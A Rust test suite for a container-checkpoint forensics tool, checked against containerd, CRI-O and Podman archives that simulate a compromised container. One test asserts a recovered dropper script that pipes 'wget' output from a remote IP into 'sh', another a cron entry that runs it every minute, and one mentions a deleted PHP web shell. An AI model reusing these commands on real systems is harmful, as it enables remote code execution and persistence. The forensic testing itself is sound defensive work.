//! `kforensic analyze` on genuine archives of runtimes the test environment does not run
//! (`tests/data/checkpoints/`: containerd 2.x through the kubelet, CRI-O 1.37, Podman 4.3): the
//! engine and its names, the compressed diff and its whiteouts, Podman's network and CRIU's
//! statistics, and one failing view that leaves the others. Needs no cluster.

use crate::support;
use crate::support::analyze_fixture::analyze_json;
use serde_json::Value;
use std::io::Read;
use std::path::{Path, PathBuf};

fn data(name: &str) -> String {
    support::repo_root().join("tests/data/checkpoints").join(name).to_str().unwrap().to_string()
}

fn containerd2() -> String {
    data("kubelet-containerd2-cart.tar")
}

fn crio() -> String {
    data("crio-1.37-web.tar")
}

/// `podman container checkpoint --export` (scripts/make-podman-checkpoint-fixture).
fn podman() -> String {
    data("podman-4.3-web.tar.zst")
}

fn scratch(name: &str) -> PathBuf {
    let d = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("analyze-runtimes-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn paths(v: &Value) -> Vec<&str> {
    v.as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect()
}

/// `kforensic [-o json] analyze ARGS…` as it ran.
fn analyze(json: bool, args: &[&str]) -> std::process::Output {
    let mut all = if json { vec!["-o", "json", "analyze"] } else { vec!["analyze"] };
    all.extend_from_slice(args);
    support::kforensic(&all)
}

/// A copy of `src` with each member passed through `edit` (None drops it).
fn rebuild(src: &str, dst: &Path, edit: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>) {
    rebuild_adding(src, dst, edit, &[]);
}

/// `rebuild`, then more regular members at the end.
fn rebuild_adding(src: &str, dst: &Path, edit: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>, extra: &[(&str, &[u8])]) {
    let mut a = tar::Archive::new(std::fs::File::open(src).unwrap());
    let mut b = tar::Builder::new(std::fs::File::create(dst).unwrap());
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().to_string_lossy().into_owned();
        let mut h = e.header().clone();
        let mut bytes = Vec::new();
        e.read_to_end(&mut bytes).unwrap();
        if h.entry_type().is_dir() {
            b.append_data(&mut h, &name, &[][..]).unwrap();
            continue;
        }
        let Some(bytes) = edit(&name, bytes) else {
            continue;
        };
        h.set_size(bytes.len() as u64);
        b.append_data(&mut h, &name, &bytes[..]).unwrap();
    }
    for (name, bytes) in extra {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o600);
        b.append_data(&mut h, name, *bytes).unwrap();
    }
    b.finish().unwrap();
}

#[test]
fn containerd2_summary_names_engine_pod_namespace_container_and_image() {
    let r = analyze_json(&[&containerd2()]);
    let sm = &r["summary"];
    assert_eq!(sm["engine"], "containerd", "{sm:#}");
    assert_eq!(sm["runtime"], "io.containerd.runc.v2");
    assert_eq!(sm["pod"], "cart-7d9f6-x2k4p");
    assert_eq!(sm["namespace"], "shop");
    assert_eq!(sm["container"], "cart");
    assert_eq!(sm["image"], "k8s-lab.local/busybox:lab");
    assert_eq!(sm["created"], "2026-12-07T08:20:42.983631652Z");
    assert_eq!(sm["checkpointed"], "2026-12-07T08:20:46.394916312Z");
    assert_eq!(sm["rootfs_diff_compression"], "gzip");
    // no deleted.files: the one deletion is the whiteout bin/.wh.nc
    assert_eq!(sm["deleted_files"], 1);
    assert_eq!(r["errors"], serde_json::json!([]));

    let out = analyze(false, &[&containerd2()]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    let t = support::stdout(&out);
    let runtime = t.lines().find(|l| l.trim_start().starts_with("runtime")).unwrap_or_else(|| panic!("{t}"));
    assert!(runtime.contains("containerd (io.containerd.runc.v2)"), "{runtime}");
    for want in ["cart-7d9f6-x2k4p", "shop", "k8s-lab.local/busybox:lab", "(gzip)"] {
        assert!(t.contains(want), "summary table lacks {want}:\n{t}");
    }
}

#[test]
fn containerd2_gzip_rootfs_diff_lists_changes_and_the_whiteout_as_a_deletion() {
    let r = analyze_json(&[&containerd2(), "--rootfs-diff", "--files"]);
    let d = &r["rootfs_diff"];
    assert_eq!(d["compression"], "gzip");
    let changed = paths(&d["changed"]);
    for want in ["/tmp/access.log", "/var/spool/cron/crontabs/root", "/etc/hosts"] {
        assert!(changed.contains(&want), "{want} not in {changed:?}");
    }
    assert!(changed.iter().all(|p| !p.contains(".wh.")), "a whiteout listed as a file: {changed:?}");
    assert_eq!(d["deleted"], serde_json::json!(["/bin/nc"]));
    // the dropper itself was deleted while open: it is in the process view, not in the diff
    let files = r["files"].as_array().unwrap();
    let held: Vec<_> = files.iter().filter(|f| f["path"] == "/tmp/payload.sh" && f["fd"] == "3").collect();
    assert_eq!(held.len(), 2, "{files:#?}");
    assert!(held.iter().all(|f| f["deleted"] == true));

    let t = support::stdout(&analyze(false, &[&containerd2(), "--rootfs-diff"]));
    let nc = t.lines().find(|l| l.contains("/bin/nc")).unwrap_or_else(|| panic!("{t}"));
    assert!(nc.trim_start().starts_with("D "), "{nc}");
    assert!(!t.contains(".wh."), "{t}");
}

#[test]
fn containerd2_extract_reads_the_gzip_diff_and_never_a_whiteout() {
    let out = scratch("extract");
    let o = out.to_str().unwrap();
    let x = analyze_json(&[&containerd2(), "--extract", "/var/spool/cron/crontabs/root", "--out", o]);
    assert_eq!(x["extracted"]["bytes"], 26);
    assert_eq!(std::fs::read_to_string(out.join("root")).unwrap(), "* * * * * /tmp/payload.sh\n");

    for (path, want) in [("/bin/.wh.nc", "overlay whiteout"), ("/bin/nc", "was deleted by the container")] {
        let r = analyze(false, &[&containerd2(), "--extract", path, "--out", o]);
        let err = support::stderr(&r);
        assert_eq!(r.status.code(), Some(1), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(want), "{path}: {err}");
    }
    assert!(!out.join(".wh.nc").exists() && !out.join("nc").exists());
}

#[test]
fn crio_summary_and_diff_come_from_its_annotations_and_deleted_files() {
    let r = analyze_json(&[&crio(), "--rootfs-diff"]);
    let sm = &r["summary"];
    assert_eq!(sm["engine"], "cri-o", "{sm:#}");
    assert_eq!(sm["runtime"], "runc");
    assert_eq!(sm["container"], "busybox");
    assert_eq!(sm["pod"], "web-fixture");
    assert_eq!(sm["namespace"], "crio-lab");
    assert_eq!(sm["image"], "localhost/crio-lab/busybox:lab");
    assert_eq!(sm["image_ref"], "379cc0498ca18b7b5d255234e29daf81c79360fda9b57c1995a8f78a80021c51");
    assert_eq!(sm["created"], "2026-12-07T08:20:57.242905866Z");
    assert_eq!(sm["checkpointed"], "2026-12-07T08:21:01.439752682Z");
    assert_eq!(sm["deleted_files"], 1);
    let d = &r["rootfs_diff"];
    assert_eq!(d["compression"], "none");
    assert_eq!(d["deleted"], serde_json::json!(["/bin/telnet"]));
    assert!(paths(&d["changed"]).contains(&"/etc/mtab"));

    let t = support::stdout(&analyze(false, &[&crio()]));
    assert!(t.contains("cri-o (runc)") && t.contains("web-fixture") && t.contains("busybox"), "{t}");
    // the renamed, deleted web shell is still open on fd 4
    let f = analyze_json(&[&crio(), "--files"]);
    assert!(f["files"].as_array().unwrap().iter().any(|x| x["path"] == "/tmp/.s" && x["fd"] == "4" && x["deleted"] == true), "{f:#}");
}

#[test]
fn a_deletion_in_both_deleted_files_and_a_whiteout_counts_once() {
    let p = scratch("both").join("with-deleted-files.tar");
    // deleted.files naming the path the whiteout already deletes, and one more
    rebuild_adding(&containerd2(), &p, |_, b| Some(b), &[("deleted.files", br#"["/bin/nc", "/etc/motd"]"#)]);
    let r = analyze_json(&[p.to_str().unwrap(), "--rootfs-diff"]);
    assert_eq!(r["rootfs_diff"]["deleted"], serde_json::json!(["/bin/nc", "/etc/motd"]));
    assert_eq!(r["summary"]["deleted_files"], 2);
}

#[test]
fn a_corrupt_member_fails_its_view_only_and_the_command_exits_partial() {
    let d = scratch("partial");
    // the gzip diff cut in half: --rootfs-diff fails, --ps-tree is still printed
    let cut = d.join("cut-diff.tar");
    rebuild(&containerd2(), &cut, |name, mut b| {
        if name == "rootfs-diff.tar" {
            b.truncate(b.len() / 2);
        }
        Some(b)
    });
    let out = analyze(true, &[cut.to_str().unwrap(), "--rootfs-diff", "--ps-tree"]);
    let err = support::stderr(&out);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("error: --rootfs-diff: cannot read rootfs-diff.tar"), "{err}");
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["processes"].as_array().unwrap().len(), 2, "{r:#}");
    assert!(r.get("rootfs_diff").is_none());
    assert_eq!(r["errors"].as_array().unwrap().len(), 1);
    // the table too: the process tree is there, the error is on stderr
    let t = analyze(false, &[cut.to_str().unwrap(), "--rootfs-diff", "--ps-tree"]);
    assert_eq!(t.status.code(), Some(3));
    assert!(support::stdout(&t).contains("busybox"), "{}", support::stdout(&t));

    // a malformed CRIU image: the process views fail, the diff and the mounts are printed
    let bad = d.join("bad-core.tar");
    rebuild(&crio(), &bad, |name, mut b| {
        if name == "checkpoint/core-1.img" {
            b.truncate(b.len() - 7);
        }
        Some(b)
    });
    let out = analyze(true, &[bad.to_str().unwrap(), "--files", "--rootfs-diff", "--mounts"]);
    let err = support::stderr(&out);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("--files: the CRIU images cannot be read: checkpoint/core-1.img"), "{err}");
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["rootfs_diff"]["deleted"], serde_json::json!(["/bin/telnet"]));
    assert!(!r["mounts"].as_array().unwrap().is_empty());
    assert!(r.get("files").is_none());

    // nothing left to show: a plain failure, exit 1
    let only = analyze(false, &[bad.to_str().unwrap(), "--files"]);
    assert_eq!(only.status.code(), Some(1));
    assert_eq!(support::stderr(&only).lines().count(), 1, "{}", support::stderr(&only));
}

#[test]
fn a_file_that_is_not_an_archive_is_named_never_echoed() {
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    let out = analyze(false, &["/etc/passwd"]);
    let err = support::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("/etc/passwd: not a checkpoint archive"), "{err}");
    for line in passwd.lines().filter(|l| !l.is_empty()) {
        assert!(!err.contains(line), "the error echoes {line:?}: {err}");
        let user = line.split(':').next().unwrap();
        assert!(!err.contains(&format!("{user}:x:")), "{err}");
    }
    assert!(out.stdout.is_empty());
}

#[test]
fn a_directory_that_is_not_a_checkpoint_says_so() {
    let out = analyze(false, &["/etc"]);
    let err = support::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("not a checkpoint"), "{err}");
    assert!(!err.contains("symlink"), "{err}");
    // even one whose symlink would have been met first
    let d = scratch("notdir");
    std::os::unix::fs::symlink("/etc/shadow", d.join("a-link")).unwrap();
    std::fs::write(d.join("notes.txt"), "x").unwrap();
    let out = analyze(false, &[d.to_str().unwrap()]);
    let err = support::stderr(&out);
    assert!(err.contains("not a checkpoint") && !err.contains("symlink"), "{err}");
}

#[test]
fn genuine_ghost_files_are_recovered_with_their_holders() {
    // containerd 2.x: the deleted /tmp/payload.sh, still open on fd 3 of two processes
    let out = scratch("ghosts");
    let o = analyze(true, &[&containerd2(), "--deleted", "--extract-deleted", "/tmp/payload.sh", "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let d = &r["deleted"][0];
    assert_eq!(d["path"], "/tmp/payload.sh");
    let fd3: Vec<&Value> = d["holders"].as_array().unwrap().iter().filter(|h| h["as"] == "fd" && h["fd"] == 3).collect();
    assert_eq!(fd3.len(), 2, "{d:#}");
    let written = r["extracted_deleted"][0]["written"].as_str().unwrap();
    assert_eq!(std::fs::read_to_string(written).unwrap(), "#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n");
    assert_eq!(r["summary"]["ghost_files"], 1);

    // CRI-O: the web shell renamed to /tmp/.s before it was deleted, recovered under that name
    let o = analyze(true, &[&crio(), "--extract-deleted", "--all", "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let w = &r["extracted_deleted"][0];
    assert_eq!(w["path"], "/tmp/.s");
    assert!(std::fs::read_to_string(w["written"].as_str().unwrap()).unwrap().contains("<?php"), "{w}");
}

#[test]
fn a_malformed_ghost_image_is_one_error_line_and_the_other_views_still_print() {
    let dir = scratch("ghost-cut");
    let cut = dir.join("cut.tar");
    // the ghost entry claims 4 GiB
    rebuild(&containerd2(), &cut, |name, mut b| {
        if name.ends_with("ghost-file-1.img") {
            b[8..12].copy_from_slice(&u32::MAX.to_le_bytes());
        }
        Some(b)
    });
    let o = analyze(true, &[cut.to_str().unwrap(), "--deleted", "--ps-tree"]);
    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(!r["processes"].as_array().unwrap().is_empty());
    assert_eq!(r["deleted"], serde_json::json!([]));
    let err = support::stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("ghost-file-1.img"), "{err}");
}

#[test]
fn stats_come_from_criu_and_network_from_podmans_network_status() {
    let o = analyze(true, &[&containerd2(), "--stats"]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let st = &r["stats"];
    assert!(st["frozen_time_us"].as_u64().unwrap() > 0, "{st}");
    assert!(st["pages_written"].as_u64().unwrap() > 0 && st["pages_scanned"].as_u64() >= st["pages_written"].as_u64(), "{st}");
    let t = support::stdout(&analyze(false, &[&containerd2(), "--stats"]));
    assert!(t.contains("frozen time") && t.contains(" ms"), "{t}");

    // Podman writes network.status (netavark: network → interfaces); two networks
    let dir = scratch("network");
    let podman = dir.join("podman.tar");
    let status = br#"{"podman":{"interfaces":{"eth0":{"subnets":[{"ipnet":"198.51.100.9/16","gateway":"198.51.100.1"}],"mac_address":"6e:1f:09:aa:bb:cc"}}},"backend":{"interfaces":{"eth1":{"subnets":[{"ipnet":"203.0.113.4/24","gateway":"203.0.113.1"}],"mac_address":"6e:1f:09:dd:ee:ff"}}}}"#;
    rebuild_adding(&containerd2(), &podman, |_, b| Some(b), &[("network.status", status)]);
    let r: Value = serde_json::from_slice(&analyze(true, &[podman.to_str().unwrap(), "--network"]).stdout).unwrap();
    let n = r["network"].as_array().unwrap();
    assert_eq!(n.len(), 2, "{n:#?}");
    let eth1 = n.iter().find(|i| i["interface"] == "eth1").unwrap();
    assert_eq!(eth1["network"], "backend");
    assert_eq!(eth1["addresses"], serde_json::json!(["203.0.113.4/24"]));
    assert_eq!(eth1["mac"], "6e:1f:09:dd:ee:ff");
    // an archive without one says so, and the other views still print (exit 3)
    let o = analyze(true, &[&crio(), "--network", "--stats"]);
    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
    assert!(support::stderr(&o).contains("network.status"), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(r["stats"]["pages_written"].as_u64().unwrap() > 0);
}

#[test]
fn pid_filters_every_per_process_view() {
    let o = analyze(true, &[&containerd2(), "--ps-tree", "--files", "--sockets", "--deleted"]);
    let all: Value = serde_json::from_slice(&o.stdout).unwrap();
    let pids: std::collections::BTreeSet<u64> = all["processes"].as_array().unwrap().iter().map(|p| p["pid"].as_u64().unwrap()).collect();
    assert!(pids.len() > 1, "{pids:?}");
    let other = *pids.iter().find(|&&p| p != 1).unwrap();
    let o = analyze(true, &[&containerd2(), "--ps-tree", "--files", "--sockets", "--deleted", "--pid", &other.to_string()]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let one: Value = serde_json::from_slice(&o.stdout).unwrap();
    for view in ["processes", "files", "sockets"] {
        assert!(one[view].as_array().unwrap().iter().all(|x| x["pid"] == other), "{view}: {}", one[view]);
    }
    assert_eq!(one["processes"].as_array().unwrap().len(), 1);
    assert!(!one["files"].as_array().unwrap().is_empty());
    for d in one["deleted"].as_array().unwrap() {
        assert!(d["holders"].as_array().unwrap().iter().any(|h| h["pid"] == other), "{d}");
    }
    let o = analyze(false, &[&containerd2(), "--files", "--pid", "99999"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(support::stderr(&o).contains("--pid 99999"), "{}", support::stderr(&o));
}

#[test]
fn several_archives_give_one_section_each_and_one_json_array() {
    let o = analyze(true, &[&containerd2(), &crio()]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let docs = v.as_array().unwrap();
    assert_eq!(docs.len(), 2);
    assert_eq!(docs[0]["kind"], "AnalyzeReport");
    assert_eq!(docs[0]["summary"]["engine"], "containerd");
    assert_eq!(docs[1]["summary"]["engine"], "cri-o");
    let t = support::stdout(&analyze(false, &[&containerd2(), &crio(), "--ps-tree"]));
    assert!(t.contains("== ") && t.contains("kubelet-containerd2-cart.tar ==") && t.contains("crio-1.37-web.tar =="), "{t}");
    // one that is not a checkpoint: an error line, the others still printed, exit 3
    let bogus = scratch("bogus").join("notes.txt");
    std::fs::write(&bogus, "hello").unwrap();
    let o = analyze(true, &[&containerd2(), bogus.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
    assert_eq!(serde_json::from_slice::<Value>(&o.stdout).unwrap().as_array().unwrap().len(), 1);
    assert!(support::stderr(&o).contains("not a checkpoint"), "{}", support::stderr(&o));
}

#[test]
fn a_genuine_podman_export_is_read_as_podman_with_its_names_network_stats_and_changes() {
    let o = analyze(true, &[&podman(), "--ps-tree", "--network", "--stats", "--rootfs-diff"]);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["errors"], serde_json::json!([]));
    // the engine from spec.dump's io.container.manager (libpod), though Podman also writes an
    // io.kubernetes.cri-o.* annotation; names from Podman's config.dump
    let sm = &r["summary"];
    assert_eq!(sm["engine"], "podman", "{sm:#}");
    assert_eq!(sm["container"], "kft-podman-web");
    assert_eq!(sm["image"], "localhost/kft-busybox:fixture");
    assert_eq!(sm["created"], "2026-12-07T18:22:09.172581618Z");
    assert_eq!(sm["runtime"], "runc", "{sm:#}");
    // network.status as Podman wrote it (CNI backend, one network)
    let n = r["network"].as_array().unwrap();
    assert_eq!(n.len(), 1, "{n:#?}");
    assert_eq!(n[0]["network"], "kft-fixture-net");
    assert_eq!(n[0]["interface"], "eth0");
    assert_eq!(n[0]["addresses"], serde_json::json!(["198.51.100.2/24"]));
    assert_eq!(n[0]["mac"], "92:c6:bd:38:b7:60");
    // CRIU's stats-dump
    let st = &r["stats"];
    assert!(st["frozen_time_us"].as_u64().unwrap() > 0, "{st}");
    assert!(st["pages_written"].as_u64().unwrap() > 0 && st["pages_scanned"].as_u64() >= st["pages_written"].as_u64(), "{st}");
    // the shell and its sleep; the container's changes and its deletion (deleted.files)
    let comms: Vec<&str> = r["processes"].as_array().unwrap().iter().map(|p| p["comm"].as_str().unwrap()).collect();
    assert_eq!(comms, vec!["sh", "sleep"], "{:#}", r["processes"]);
    let d = &r["rootfs_diff"];
    assert!(paths(&d["changed"]).contains(&"/tmp/evil.txt"), "{d:#}");
    assert_eq!(d["deleted"], serde_json::json!(["/bin/ls"]));

    // the tables a person reads: the summary, and the network
    let t = support::stdout(&analyze(false, &[&podman()]));
    let runtime = t.lines().find(|l| l.trim_start().starts_with("runtime")).unwrap_or_else(|| panic!("{t}"));
    assert!(runtime.contains("podman (runc)"), "{runtime}");
    for want in ["kft-podman-web", "localhost/kft-busybox:fixture"] {
        assert!(t.contains(want), "the summary lacks {want}:\n{t}");
    }
    let t = support::stdout(&analyze(false, &[&podman(), "--network"]));
    let eth0 = t.lines().find(|l| l.contains("eth0")).unwrap_or_else(|| panic!("{t}"));
    for want in ["kft-fixture-net", "198.51.100.2/24", "92:c6:bd:38:b7:60"] {
        assert!(eth0.contains(want), "the network table lacks {want}:\n{t}");
    }
}
